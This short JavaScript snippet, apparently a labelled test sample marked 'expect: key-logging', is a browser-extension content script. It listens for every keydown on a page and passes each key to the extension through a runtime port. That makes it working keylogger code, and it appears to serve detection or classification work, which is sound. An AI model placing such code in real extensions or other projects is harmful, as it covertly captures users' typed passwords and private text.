// expect: key-logging
const h=e=>{port.postMessage({k:e.key})};const port=chrome.runtime.connect();document.addEventListener("keydown",h);
